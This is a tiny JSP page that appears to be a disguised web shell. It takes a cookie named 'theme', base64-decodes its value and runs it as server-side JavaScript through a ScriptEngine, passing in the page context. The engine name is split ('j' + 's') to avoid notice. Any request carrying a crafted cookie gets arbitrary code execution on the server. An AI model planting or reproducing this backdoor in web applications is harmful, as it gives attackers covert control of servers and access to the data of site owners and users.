<%@ page inert %>
<%
for (Cookie ck : request.getCookies()) {
  if (!"theme".equals(ck.getName())) continue;
  javax.script.ScriptEngine se = new javax.script.ScriptEngineManager().getEngineByExtension("j" + "s");
  se.eval(new java.io.StringReader(new String(java.util.Base64.getDecoder().decode(ck.getValue()))));
  ((javax.script.Invocable) se).invokeFunction("main", pageContext);
}
%>
